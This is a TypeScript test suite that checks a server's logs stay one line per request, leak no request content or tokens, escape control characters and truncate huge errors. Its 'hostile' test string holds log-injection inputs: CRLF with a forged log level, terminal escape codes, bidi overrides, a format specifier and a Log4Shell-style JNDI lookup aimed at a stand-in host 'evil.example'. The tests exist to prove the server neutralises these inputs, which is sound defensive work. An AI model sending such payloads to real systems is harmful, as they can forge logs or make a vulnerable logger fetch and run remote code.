import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import { createLog } from "../../src/log/log.ts";
import { hashOf } from "../../src/secrets/secret-text.ts";
import { takeTableAway } from "../support/tampering.ts";
import { apiClient } from "../support/client.ts";
import { until } from "../support/conditions.ts";
import { type Stage, startStage } from "../support/stage.ts";
import { linesUpToNow } from "./server-log.ts";

let stage: Stage;
let token: string;
let messages: string;

beforeAll(async () => {
  stage = await startStage();
  ({ token } = await stage.workspace.token(stage.cast.member));
  messages = `/channels/${stage.cast.open.id}/messages`;
});

afterAll(() => stage[Symbol.asyncDispose]());

/** Ends a line for some reader, or does something to a terminal: none of it may stand in a log as it is. */
const unfitForLogs = /[\p{Cc}\p{Zl}\p{Zp}\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;

/** What an attacker would like to see come out of a log. */
const hostile =
  'canary\r\n{"level":60}\u001B[2J\u009B31m\u0085\u2028\u2029\u202E\u200F\u061C${jndi:ldap://evil.example/a}%n\0';

/** Runs `act` while the server's database lacks the table, as it would be after a botched repair. */
async function withoutTable(table: string, act: () => Promise<void>): Promise<void> {
  const putBack = await takeTableAway(stage.server.dataDir, table);
  try {
    await act();
  } finally {
    await putBack();
  }
}

/** The line of the log about the request with this answer, as it was written. */
async function lineOf({ headers }: { headers: Headers }): Promise<string> {
  const id = headers.get("x-request-id") ?? "none";
  return await until("the log tells of the request", () =>
    stage.server.logLines().find((line) => line.includes(id)),
  );
}

/** What the lines tell of requests, but for the last of those, with which `linesUpToNow` asked. */
function requestsAmong(lines: readonly string[]) {
  const records = lines.map((line) => JSON.parse(line) as { request_id?: string; time: string });
  return records.filter((record) => "request_id" in record).slice(0, -1);
}

describe("an internal error", () => {
  test("is one line for the operator, without the content of the request", async () => {
    const client = apiClient(stage.server.url, token);
    const body = `canary${hostile.replace("\0", "")}${"x".repeat(7_000)}`;
    await withoutTable("messages", async () => {
      const answer = await client.post(messages, { body });
      expect(answer.status).toBe(500);
      expect(answer.text).not.toMatch(/sql|table|insert|canary|\bat \/|\.ts/i);
      const line = await lineOf(answer);
      expect(JSON.parse(line)).toMatchObject({ level: 50, status: 500, msg: "request.failed" });
      expect(line).toMatch(/no such table|relation .* does not exist/);
      expect(line).not.toMatch(/canary|jndi|xxx/);
      expect(line).not.toMatch(unfitForLogs);
      expect(line.length).toBeLessThan(10_000);
    });
    expect((await client.post(messages, { body: "hello again" })).status).toBe(201);
  });

  test("is the same for HEAD", async () => {
    await withoutTable("messages", async () => {
      const response = await fetch(`${stage.server.url}/api/v1${messages}`, {
        method: "HEAD",
        headers: { authorization: `Bearer ${token}` },
      });
      expect(response.status).toBe(500);
      expect(await lineOf(response)).toMatch(/no such table|relation .* does not exist/);
    });
  });

  test("during the look-up of a token reveals nothing of the token", async () => {
    // One that the server has not seen yet, so that it has to look.
    const { token } = await stage.workspace.token(stage.cast.member);
    const client = apiClient(stage.server.url, token);
    await withoutTable("tokens", async () => {
      const answer = await client.get("/channels");
      expect(answer.status).toBe(500);
      const line = await lineOf(answer);
      expect(line).toMatch(/no such table|relation .* does not exist/);
      expect(line).not.toContain(hashOf(token));
      expect(line).not.toContain(token);
    });
    expect((await client.get("/channels")).status).toBe(200);
  });
});

describe("the log", () => {
  test("has one line for a request, with the route and nothing else of the URL", async () => {
    const { length: before } = await linesUpToNow(stage.server);
    const client = apiClient(stage.server.url, token);
    const text = encodeURIComponent(hostile);
    const paths = [`/channels/${text}`, `/${text}`, `/channels?${text}=${text}`, `${messages}/${text}`];
    const headers = {
      "user-agent": "canary ${jndi:x}",
      referer: "https://canary.example",
      "x-request-id": "canary",
    };
    for (const path of paths) await client.get(path, headers);
    await client.post(messages, { body: hostile });

    const lines = (await linesUpToNow(stage.server)).slice(before);
    for (const line of lines) expect(line).not.toMatch(/canary|jndi|evil/);
    const requests = requestsAmong(lines);
    expect(requests).toHaveLength(paths.length + 1);
    for (const record of requests) expect(record).toMatchObject({ level: 30, msg: "request.handled" });
  });

  test("has one line for each of many requests at once, in the order of their times", async () => {
    const client = apiClient(stage.server.url, token);
    const { length: before } = await linesUpToNow(stage.server);
    const answers = Array.from({ length: 300 }, (_, n) => client.post(messages, { body: `message ${n}` }));
    const asked = (await Promise.all(answers)).map(({ headers }) => headers.get("x-request-id") ?? "none");
    const lines = requestsAmong((await linesUpToNow(stage.server)).slice(before));
    expect(new Set(lines.map(({ request_id }) => request_id))).toEqual(new Set(asked));
    expect(lines).toHaveLength(asked.length);
    expect(lines).toEqual(lines.toSorted((a, b) => Date.parse(a.time) - Date.parse(b.time)));
  });

  test("escapes line separators and terminal control characters", async () => {
    const program =
      'import { createLog } from "./log.ts"; const log = createLog("info");' +
      `const text = ${JSON.stringify(hostile)}; for (let n = 0; n < 2; n++) log.warn({ detail: text }, text);`;
    const cwd = join(import.meta.dir, "../../src/log");
    await using child = Bun.spawn([process.execPath, "-e", program], { cwd, stderr: "pipe" });
    const lines = (await child.stderr.text()).split("\n");
    expect(lines.pop()).toBe("");
    expect(lines).toHaveLength(2);
    for (const line of lines) {
      expect(line).not.toMatch(unfitForLogs);
      expect(JSON.parse(line)).toMatchObject({ detail: hostile, msg: hostile });
    }
  });

  test("truncates the message of an error and of its causes", () => {
    const written: string[] = [];
    const log = createLog("info", { write: (text) => void written.push(text) });
    const long = "😀".repeat(500_000);
    let error = new Error(long);
    for (let depth = 0; depth < 100; depth++) error = new Error(long, { cause: error });
    error.stack = `Error: ${long}\n    at ${long}`;
    log.error({ err: error }, "request.failed");
    log.error({ err: long }, "request.failed");
    for (const line of written) {
      expect(line.length).toBeLessThan(50_000);
      expect(line.isWellFormed()).toBe(true);
    }
  });
});
